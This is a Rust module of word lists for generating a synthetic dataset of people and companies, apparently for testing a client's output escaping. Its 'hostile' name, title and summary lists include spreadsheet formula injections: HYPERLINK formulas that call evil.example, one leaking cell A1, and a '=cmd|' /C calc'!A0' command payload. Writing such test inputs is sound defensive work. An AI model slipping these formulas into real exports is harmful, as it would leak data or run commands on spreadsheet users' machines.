//! Static word lists the synthetic dataset draws from: enums of the schema, countries, names, job titles,
//! companies, and the hostile strings that exercise a client's escaping.
//!
//! Everything here is `&'static` so a person can be generated and filtered without allocating.

/// `Seniority` of the schema, in schema order (a person's bit mask indexes this list).
pub const SENIORITIES: [&str; 10] =
    ["Owner", "Founder", "Board Member", "C-Level", "Partner", "VP", "Head", "Director", "Manager", "Other"];

/// `Department` of the schema, in schema order.
pub const DEPARTMENTS: [&str; 24] = [
    "Accounting and Finance",
    "Board",
    "Business Support",
    "Customer Relations",
    "Design",
    "Editorial Personnel",
    "Engineering",
    "Founder/Owner",
    "Healthcare",
    "HR",
    "Legal",
    "Management",
    "Manufacturing",
    "Marketing and Advertising",
    "Operations",
    "PR and Communications",
    "Procurement",
    "Product",
    "Quality Control",
    "R&D",
    "Sales",
    "Security",
    "Supply Chain",
    "Other",
];

/// `PublicCompanySize` of the schema with the employee range each stands for.
pub const COMPANY_SIZES: [(&str, u64, u64); 12] = [
    ("0-1", 0, 1),
    ("2-10", 2, 10),
    ("11-50", 11, 50),
    ("51-200", 51, 200),
    ("201-500", 201, 500),
    ("501-1000", 501, 1000),
    ("1001-5000", 1001, 5000),
    ("5001-10000", 5001, 10_000),
    ("10001-50000", 10_001, 50_000),
    ("50001-100000", 50_001, 100_000),
    ("100001-500000", 100_001, 500_000),
    ("500000+", 500_001, 2_000_000),
];

/// Relative frequency of each company size: most companies are small.
pub const COMPANY_SIZE_WEIGHTS: [u32; 12] = [2, 14, 24, 22, 12, 8, 8, 4, 3, 1, 1, 1];

/// `Revenue` of the schema.
pub const REVENUES: [&str; 7] = ["0-1M", "1-10M", "10-50M", "50-100M", "100-500M", "500-1000M", ">1000M"];

/// The subset of `FundingRoundType` that realistic companies show.
pub const FUNDING_TYPES: [&str; 12] = [
    "Pre-Seed",
    "Seed",
    "Angel",
    "Series A",
    "Series B",
    "Series C",
    "Series D",
    "Grant",
    "Debt Financing",
    "Private Equity",
    "Post-IPO Equity",
    "Undisclosed",
];

pub const EMAIL_STATUSES: [&str; 4] = ["verified", "guessed", "catchAll", "notFound"];
pub const PHONE_STATUSES: [&str; 3] = ["verified", "notFound", "inProgress"];
pub const RELEVANCES: [&str; 3] = ["A", "B", "C"];

/// Statuses Ocean reports for an `includeDomains` entry it has no data for (both enums of the schema).
pub const DOMAIN_STATUSES: [&str; 14] = [
    "missing context vector",
    "missing industries",
    "missing keywords",
    "missing industry categories",
    "bad content",
    "crawler failed",
    "data gathering started",
    "in progress",
    "invalid domain",
    "other error",
    "robots disallowed",
    "unsupported language",
    "invalid redirect",
    "ssl certificate error",
];

/// A country people and companies live in: lowercase alpha-2 code, English name, top-level domain,
/// phone prefix, the name pool of its people, and (subdivision code, subdivision name, city) triples.
pub struct Country {
    pub code: &'static str,
    pub name: &'static str,
    pub tld: &'static str,
    pub phone: &'static str,
    pub names: usize,
    pub places: &'static [(&'static str, &'static str, &'static str)],
}

const NORDIC: usize = 0;
const GERMAN: usize = 1;
const DUTCH: usize = 2;
const ENGLISH: usize = 3;
const ROMANCE: usize = 4;
const POLISH: usize = 5;

/// Weighted towards the Nordics, then Europe and the US, as Ocean's customer base is.
pub const COUNTRIES: [(Country, u32); 14] = [
    (
        Country {
            code: "dk",
            name: "Denmark",
            tld: "dk",
            phone: "+45",
            names: NORDIC,
            places: &[
                ("84", "Capital Region of Denmark", "Copenhagen"),
                ("82", "Central Denmark Region", "Aarhus"),
                ("83", "Region of Southern Denmark", "Odense"),
                ("81", "North Denmark Region", "Aalborg"),
            ],
        },
        14,
    ),
    (
        Country {
            code: "se",
            name: "Sweden",
            tld: "se",
            phone: "+46",
            names: NORDIC,
            places: &[
                ("AB", "Stockholm County", "Stockholm"),
                ("O", "Västra Götaland County", "Göteborg"),
                ("M", "Skåne County", "Malmö"),
            ],
        },
        12,
    ),
    (
        Country {
            code: "no",
            name: "Norway",
            tld: "no",
            phone: "+47",
            names: NORDIC,
            places: &[("03", "Oslo", "Oslo"), ("46", "Vestland", "Bergen"), ("50", "Trøndelag", "Trondheim")],
        },
        9,
    ),
    (
        Country {
            code: "fi",
            name: "Finland",
            tld: "fi",
            phone: "+358",
            names: NORDIC,
            places: &[("18", "Uusimaa", "Helsinki"), ("18", "Uusimaa", "Espoo"), ("11", "Pirkanmaa", "Tampere")],
        },
        7,
    ),
    (
        Country {
            code: "is",
            name: "Iceland",
            tld: "is",
            phone: "+354",
            names: NORDIC,
            places: &[("1", "Höfuðborgarsvæði", "Reykjavík")],
        },
        1,
    ),
    (
        Country {
            code: "de",
            name: "Germany",
            tld: "de",
            phone: "+49",
            names: GERMAN,
            places: &[
                ("BE", "Berlin", "Berlin"),
                ("BY", "Bavaria", "München"),
                ("HH", "Hamburg", "Hamburg"),
                ("NW", "North Rhine-Westphalia", "Köln"),
            ],
        },
        9,
    ),
    (
        Country {
            code: "nl",
            name: "Netherlands",
            tld: "nl",
            phone: "+31",
            names: DUTCH,
            places: &[
                ("NH", "North Holland", "Amsterdam"),
                ("ZH", "South Holland", "Rotterdam"),
                ("UT", "Utrecht", "Utrecht"),
            ],
        },
        6,
    ),
    (
        Country {
            code: "gb",
            name: "United Kingdom",
            tld: "co.uk",
            phone: "+44",
            names: ENGLISH,
            places: &[("ENG", "England", "London"), ("ENG", "England", "Manchester"), ("SCT", "Scotland", "Edinburgh")],
        },
        9,
    ),
    (
        Country {
            code: "fr",
            name: "France",
            tld: "fr",
            phone: "+33",
            names: ROMANCE,
            places: &[("IDF", "Île-de-France", "Paris"), ("ARA", "Auvergne-Rhône-Alpes", "Lyon")],
        },
        5,
    ),
    (
        Country {
            code: "es",
            name: "Spain",
            tld: "es",
            phone: "+34",
            names: ROMANCE,
            places: &[("MD", "Community of Madrid", "Madrid"), ("CT", "Catalonia", "Barcelona")],
        },
        4,
    ),
    (
        Country {
            code: "pl",
            name: "Poland",
            tld: "pl",
            phone: "+48",
            names: POLISH,
            places: &[("14", "Masovian Voivodeship", "Warszawa"), ("12", "Lesser Poland Voivodeship", "Kraków")],
        },
        4,
    ),
    (
        Country {
            code: "ee",
            name: "Estonia",
            tld: "ee",
            phone: "+372",
            names: NORDIC,
            places: &[("37", "Harju County", "Tallinn")],
        },
        2,
    ),
    (
        Country {
            code: "ch",
            name: "Switzerland",
            tld: "ch",
            phone: "+41",
            names: GERMAN,
            places: &[("ZH", "Zürich", "Zürich"), ("GE", "Geneva", "Genève")],
        },
        3,
    ),
    (
        Country {
            code: "us",
            name: "United States",
            tld: "com",
            phone: "+1",
            names: ENGLISH,
            places: &[
                ("CA", "California", "San Francisco"),
                ("NY", "New York", "New York"),
                ("TX", "Texas", "Austin"),
                ("WA", "Washington", "Seattle"),
                ("MA", "Massachusetts", "Boston"),
                ("PA", "Pennsylvania", "Scranton"),
            ],
        },
        15,
    ),
];

/// (display name, ASCII slug for handles and e-mail addresses), per name pool.
pub type Name = (&'static str, &'static str);

pub const FIRST_NAMES: [&[Name]; 6] = [
    &[
        ("Søren", "soren"),
        ("Mette", "mette"),
        ("Lars", "lars"),
        ("Anders", "anders"),
        ("Ingrid", "ingrid"),
        ("Sigrid", "sigrid"),
        ("Magnus", "magnus"),
        ("Freja", "freja"),
        ("Åsa", "asa"),
        ("Björn", "bjorn"),
        ("Jørgen", "jorgen"),
        ("Kirsten", "kirsten"),
        ("Mikko", "mikko"),
        ("Aino", "aino"),
        ("Guðrún", "gudrun"),
        ("Maarja", "maarja"),
    ],
    &[
        ("Jürgen", "jurgen"),
        ("Anna", "anna"),
        ("Lukas", "lukas"),
        ("Sophie", "sophie"),
        ("Maximilian", "maximilian"),
        ("Lea", "lea"),
        ("Matthias", "matthias"),
        ("Jana", "jana"),
    ],
    &[
        ("Daan", "daan"),
        ("Sanne", "sanne"),
        ("Pieter", "pieter"),
        ("Femke", "femke"),
        ("Joost", "joost"),
        ("Lotte", "lotte"),
    ],
    &[
        ("James", "james"),
        ("Emily", "emily"),
        ("Oliver", "oliver"),
        ("Olivia", "olivia"),
        ("Daniel", "daniel"),
        ("Sarah", "sarah"),
        ("Ethan", "ethan"),
        ("Grace", "grace"),
        ("Marcus", "marcus"),
        ("Priya", "priya"),
    ],
    &[
        ("Camille", "camille"),
        ("Léa", "lea"),
        ("Hugo", "hugo"),
        ("Lucía", "lucia"),
        ("Javier", "javier"),
        ("Élodie", "elodie"),
        ("Mateo", "mateo"),
    ],
    &[
        ("Zofia", "zofia"),
        ("Jakub", "jakub"),
        ("Małgorzata", "malgorzata"),
        ("Piotr", "piotr"),
        ("Agnieszka", "agnieszka"),
    ],
];

pub const LAST_NAMES: [&[Name]; 6] = [
    &[
        ("Nielsen", "nielsen"),
        ("Jensen", "jensen"),
        ("Hansen", "hansen"),
        ("Andersson", "andersson"),
        ("Johansson", "johansson"),
        ("Karlsson", "karlsson"),
        ("Berg", "berg"),
        ("Haugen", "haugen"),
        ("Virtanen", "virtanen"),
        ("Korhonen", "korhonen"),
        ("Sigurðsson", "sigurdsson"),
        ("Møller", "moller"),
        ("Sørensen", "sorensen"),
        ("Østergaard", "ostergaard"),
        ("Åberg", "aberg"),
        ("Tamm", "tamm"),
    ],
    &[
        ("Müller", "muller"),
        ("Schmidt", "schmidt"),
        ("Schneider", "schneider"),
        ("Fischer", "fischer"),
        ("Weiß", "weiss"),
        ("Becker", "becker"),
    ],
    &[
        ("de Vries", "de-vries"),
        ("van Dijk", "van-dijk"),
        ("Bakker", "bakker"),
        ("Jansen", "jansen"),
        ("Visser", "visser"),
    ],
    &[
        ("Smith", "smith"),
        ("Johnson", "johnson"),
        ("Williams", "williams"),
        ("Brown", "brown"),
        ("Garcia", "garcia"),
        ("Miller", "miller"),
        ("Taylor", "taylor"),
        ("Patel", "patel"),
        ("O'Connor", "oconnor"),
    ],
    &[
        ("Dubois", "dubois"),
        ("Lefèvre", "lefevre"),
        ("García", "garcia"),
        ("Martínez", "martinez"),
        ("Moreau", "moreau"),
        ("Fernández", "fernandez"),
    ],
    &[("Kowalski", "kowalski"), ("Nowak", "nowak"), ("Wiśniewski", "wisniewski"), ("Wójcik", "wojcik")],
];

/// First names that break naive CSV writers, spreadsheets and terminals.
pub const HOSTILE_FIRST_NAMES: [Name; 12] = [
    ("=HYPERLINK(\"https://evil.example/x?a=1\",\"Søren\")", "soren"),
    ("=1+1", "eq"),
    ("+45 Mette", "mette"),
    ("-Åse", "ase"),
    ("@SUM(A1:A9)", "sum"),
    ("李", "li"),
    ("محمد", "mohammed"),
    ("Zoë \"Zee\"", "zoe"),
    ("Ævar 🚀", "aevar"),
    ("Anna,\nMaria", "anna-maria"),
    ("Björn\r\nErik", "bjorn-erik"),
    ("\u{202e}Lars", "lars"),
];

pub const HOSTILE_LAST_NAMES: [Name; 12] = [
    ("O\"Brien", "obrien"),
    ("Smith, Jr.", "smith-jr"),
    ("王", "wang"),
    ("العلي", "alali"),
    ("Ødegård\nHansen", "odegard-hansen"),
    ("Kowalski\r\n", "kowalski"),
    ("@Nielsen", "nielsen"),
    ("=cmd|' /C calc'!A0", "cmd"),
    ("-Møller", "moller"),
    ("+Berg", "berg"),
    ("Ñúñez 👩‍💻", "nunez"),
    ("שרון", "sharon"),
];

/// A job title: its text, its English translation when the text is not English, and the seniority and
/// department it implies (names from the schema enums).
pub struct Title {
    pub text: &'static str,
    pub english: Option<&'static str>,
    pub seniority: &'static str,
    pub department: &'static str,
}

const fn t(text: &'static str, seniority: &'static str, department: &'static str) -> Title {
    Title { text, english: None, seniority, department }
}

const fn tr(text: &'static str, english: &'static str, seniority: &'static str, department: &'static str) -> Title {
    Title { text, english: Some(english), seniority, department }
}

pub const TITLES: [Title; 64] = [
    t("Chief Executive Officer", "C-Level", "Management"),
    t("CEO", "C-Level", "Management"),
    t("Chief Technology Officer", "C-Level", "Engineering"),
    t("CTO", "C-Level", "Engineering"),
    t("Chief Financial Officer", "C-Level", "Accounting and Finance"),
    t("Chief Marketing Officer", "C-Level", "Marketing and Advertising"),
    t("Chief Operating Officer", "C-Level", "Operations"),
    t("Founder", "Founder", "Founder/Owner"),
    t("Co-Founder & CEO", "Founder", "Founder/Owner"),
    t("Owner", "Owner", "Founder/Owner"),
    t("Board Member", "Board Member", "Board"),
    t("Chairman of the Board", "Board Member", "Board"),
    t("Partner", "Partner", "Management"),
    t("Managing Partner", "Partner", "Management"),
    t("VP of Sales", "VP", "Sales"),
    t("VP Engineering", "VP", "Engineering"),
    t("Vice President Marketing", "VP", "Marketing and Advertising"),
    t("VP Product", "VP", "Product"),
    t("Head of Sales", "Head", "Sales"),
    t("Head of Marketing", "Head", "Marketing and Advertising"),
    t("Head of Product", "Head", "Product"),
    t("Head of Engineering", "Head", "Engineering"),
    t("Head of People", "Head", "HR"),
    t("Head of Customer Success", "Head", "Customer Relations"),
    t("Director of Operations", "Director", "Operations"),
    t("Sales Director", "Director", "Sales"),
    t("Marketing Director", "Director", "Marketing and Advertising"),
    t("Design Director", "Director", "Design"),
    t("Managing Director", "Director", "Management"),
    t("Finance Director", "Director", "Accounting and Finance"),
    t("Sales Manager", "Manager", "Sales"),
    t("Marketing Manager", "Manager", "Marketing and Advertising"),
    t("Content Marketing Manager", "Manager", "Marketing and Advertising"),
    t("Product Manager", "Manager", "Product"),
    t("Engineering Manager", "Manager", "Engineering"),
    t("HR Manager", "Manager", "HR"),
    t("Procurement Manager", "Manager", "Procurement"),
    t("Supply Chain Manager", "Manager", "Supply Chain"),
    t("Customer Success Manager", "Manager", "Customer Relations"),
    t("Operations Manager", "Manager", "Operations"),
    t("Quality Control Manager", "Manager", "Quality Control"),
    t("PR Manager", "Manager", "PR and Communications"),
    t("Account Executive", "Other", "Sales"),
    t("Business Development Representative", "Other", "Sales"),
    t("Senior Software Engineer", "Other", "Engineering"),
    t("Software Engineer", "Other", "Engineering"),
    t("Data Scientist", "Other", "R&D"),
    t("R&D Engineer", "Other", "R&D"),
    t("Product Designer", "Other", "Design"),
    t("UX Designer", "Other", "Design"),
    t("Security Engineer", "Other", "Security"),
    t("Legal Counsel", "Other", "Legal"),
    t("Financial Controller", "Other", "Accounting and Finance"),
    t("Accountant", "Other", "Accounting and Finance"),
    t("Communications Specialist", "Other", "PR and Communications"),
    t("Editor", "Other", "Editorial Personnel"),
    t("Office Manager", "Manager", "Business Support"),
    t("Nurse", "Other", "Healthcare"),
    t("Production Planner", "Other", "Manufacturing"),
    tr("Salgschef", "Head of Sales", "Head", "Sales"),
    tr("Marknadschef", "Head of Marketing", "Head", "Marketing and Advertising"),
    tr("Verkaufsleiter", "Sales Manager", "Manager", "Sales"),
    tr("Directeur Commercial", "Sales Director", "Director", "Sales"),
    tr("Projektleder", "Project Manager", "Manager", "Operations"),
];

/// Titles of hostile people: formulas, quotes, commas, line breaks, scripts other than Latin.
pub const HOSTILE_TITLES: [Title; 14] = [
    t("=HYPERLINK(\"https://evil.example\",\"Head of Sales\")", "Head", "Sales"),
    t("Sales Manager, \"EMEA\"", "Manager", "Sales"),
    t("Chief Executive Officer\nCEO", "C-Level", "Management"),
    t("+Marketing Director", "Director", "Marketing and Advertising"),
    t("-Product Manager", "Manager", "Product"),
    t("@Engineering Manager", "Manager", "Engineering"),
    t("Head of R&D\r\nNordics", "Head", "R&D"),
    t("=1+1 Software Engineer", "Other", "Engineering"),
    tr("Директор по продажам", "Sales Director", "Director", "Sales"),
    tr("销售经理", "Sales Manager", "Manager", "Sales"),
    tr("مدير التسويق", "Marketing Manager", "Manager", "Marketing and Advertising"),
    tr("Développeuse 👩‍💻", "Software Engineer", "Other", "Engineering"),
    tr("Økonomichef; \"CFO\"", "Chief Financial Officer", "C-Level", "Accounting and Finance"),
    t("Founder, Owner & \"Chief Everything\"", "Founder", "Founder/Owner"),
];

/// Company names are `<prefix> <suffix>`; 64 × 32 = 2048 pairs give every company of the pool a unique
/// name and domain stem.
pub const COMPANY_PREFIXES: [(&str, &str); 64] = [
    ("Nordlys", "nordlys"),
    ("Fjord", "fjord"),
    ("Aurora", "aurora"),
    ("Skagen", "skagen"),
    ("Birk", "birk"),
    ("Havn", "havn"),
    ("Polar", "polar"),
    ("Viking", "viking"),
    ("Saga", "saga"),
    ("Tundra", "tundra"),
    ("Granit", "granit"),
    ("Ask", "ask"),
    ("Bølge", "bolge"),
    ("Ørsted", "orsted"),
    ("Kvist", "kvist"),
    ("Lyng", "lyng"),
    ("Mosaik", "mosaik"),
    ("Nova", "nova"),
    ("Orbit", "orbit"),
    ("Pixel", "pixel"),
    ("Quanta", "quanta"),
    ("Rune", "rune"),
    ("Sol", "sol"),
    ("Tind", "tind"),
    ("Umbra", "umbra"),
    ("Vega", "vega"),
    ("Wave", "wave"),
    ("Xylo", "xylo"),
    ("Yggdrasil", "yggdrasil"),
    ("Zephyr", "zephyr"),
    ("Alder", "alder"),
    ("Beacon", "beacon"),
    ("Cobalt", "cobalt"),
    ("Delta", "delta"),
    ("Ember", "ember"),
    ("Falcon", "falcon"),
    ("Glacier", "glacier"),
    ("Harbor", "harbor"),
    ("Iris", "iris"),
    ("Juniper", "juniper"),
    ("Kelp", "kelp"),
    ("Lumen", "lumen"),
    ("Maple", "maple"),
    ("Nimbus", "nimbus"),
    ("Onyx", "onyx"),
    ("Pine", "pine"),
    ("Quill", "quill"),
    ("Raven", "raven"),
    ("Spruce", "spruce"),
    ("Tidal", "tidal"),
    ("Ultra", "ultra"),
    ("Vireo", "vireo"),
    ("Willow", "willow"),
    ("Zenith", "zenith"),
    ("Atlas", "atlas"),
    ("Boreal", "boreal"),
    ("Cirrus", "cirrus"),
    ("Dune", "dune"),
    ("Eider", "eider"),
    ("Flint", "flint"),
    ("Gale", "gale"),
    ("Heath", "heath"),
    ("Isbjørn", "isbjorn"),
    ("Jade", "jade"),
];

pub const COMPANY_SUFFIXES: [(&str, &str); 32] = [
    ("Analytics", "analytics"),
    ("Labs", "labs"),
    ("Systems", "systems"),
    ("Logistics", "logistics"),
    ("Health", "health"),
    ("Energy", "energy"),
    ("Robotics", "robotics"),
    ("Software", "software"),
    ("Foods", "foods"),
    ("Design", "design"),
    ("Capital", "capital"),
    ("Marine", "marine"),
    ("Bio", "bio"),
    ("Media", "media"),
    ("Security", "security"),
    ("Mobility", "mobility"),
    ("& Sønner", "sonner"),
    ("Consulting", "consulting"),
    ("Pay", "pay"),
    ("Cloud", "cloud"),
    ("Retail", "retail"),
    ("Studio", "studio"),
    ("Works", "works"),
    ("Group, Inc.", "group"),
    ("AI", "ai"),
    ("Textiles", "textiles"),
    ("Pharma", "pharma"),
    ("Games", "games"),
    ("Learning", "learning"),
    ("Insurance", "insurance"),
    ("Ventures", "ventures"),
    ("Data", "data"),
];

pub const INDUSTRIES: [&str; 20] = [
    "Software",
    "Information Technology",
    "Financial Services",
    "Logistics",
    "Healthcare",
    "Renewable Energy",
    "Retail",
    "E-commerce",
    "Manufacturing",
    "Marketing",
    "Media and Entertainment",
    "Biotechnology",
    "Food and Beverage",
    "Consulting",
    "Education",
    "Insurance",
    "Gaming",
    "Maritime",
    "Security",
    "Artificial Intelligence",
];

pub const TECHNOLOGIES: [&str; 20] = [
    "HubSpot",
    "Salesforce",
    "Google Analytics",
    "Shopify",
    "WordPress",
    "React",
    "Cloudflare",
    "Stripe",
    "Intercom",
    "Zendesk",
    "Segment",
    "Hotjar",
    "Amazon Web Services",
    "Microsoft Azure",
    "Google Tag Manager",
    "Mailchimp",
    "Klaviyo",
    "Vercel",
    "Datadog",
    "Slack",
];

pub const SKILLS: [&str; 24] = [
    "Leadership",
    "Sales",
    "B2B",
    "SaaS",
    "Marketing Strategy",
    "Negotiation",
    "Python",
    "Rust",
    "JavaScript",
    "Product Management",
    "UX Research",
    "Public Speaking",
    "Project Management",
    "Data Analysis",
    "Machine Learning",
    "Accounting",
    "Recruiting",
    "Supply Chain Management",
    "Lean Manufacturing",
    "Copywriting",
    "Customer Success",
    "Cloud Computing",
    "Agile Methodologies",
    "Business Development",
];

/// Short job descriptions and profile summaries of ordinary people.
pub const DESCRIPTIONS: [&str; 10] = [
    "Responsible for growing revenue across the Nordic region.",
    "Leading a team of twelve engineers building the core platform.",
    "Owns the go-to-market strategy for new product lines.",
    "Builds long-term relationships with enterprise customers.",
    "Drives hiring, onboarding and culture in a fast-growing company.",
    "Manages suppliers, contracts and cost reduction programmes.",
    "Designs user journeys and runs usability studies every sprint.",
    "Keeps the books, the budget and the board informed.",
    "Turns data into decisions for product and marketing teams.",
    "Ships features weekly and cares about reliability.",
];

/// Paragraphs of hostile summaries; long summaries repeat them until they pass the target size.
pub const HOSTILE_PARAGRAPHS: [&str; 8] = [
    "=HYPERLINK(\"https://evil.example/?q=\"&A1,\"Click me\") is how it started, said \"the team\", before the spreadsheet opened a browser.\n",
    "Experience: Copenhagen, Aarhus, Malmö; languages: dansk, svenska, norsk — æøå ÆØÅ äöü ß.\r\n",
    "我们的团队在北欧和亚洲市场拥有十年的经验。客户满意度是我们的首要任务。\n",
    "نحن فريق متخصص في المبيعات والتسويق في منطقة الشرق الأوسط وشمال أفريقيا.\n",
    "🚀📈👩‍💻 Growth, growth, growth! +45 12 34 56 78, -10% churn, @channel: read this.\n",
    "\"Quoted\", \"double \"\"quoted\"\"\", and, many, commas, in, one, line,,,\n",
    "@SUM(1+1)*cmd|' /C calc'!A0\ttabs\tand\tbackslashes \\ \\\\ and a stray \\u0000 text.\r\n",
    "שלום, זו שורה מימין לשמאל עם \u{202e}override\u{202c} ו-\u{200f}marks.\n",
];

/// Short hostile lines for headlines, descriptions, locations and short summaries.
pub const HOSTILE_SNIPPETS: [&str; 10] = [
    "=HYPERLINK(\"https://evil.example\",\"Profile\")",
    "+45 12 34 56 78",
    "-5% costs, +20% revenue",
    "@Nordic Sales, \"EMEA\"",
    "Line one\nLine two",
    "Windows line\r\nbreak",
    "Zürich, \"Kanton\" ZH, Schweiz",
    "東京, 日本 🗼",
    "القاهرة، مصر",
    "Emoji only: 🚀🔥💼",
];
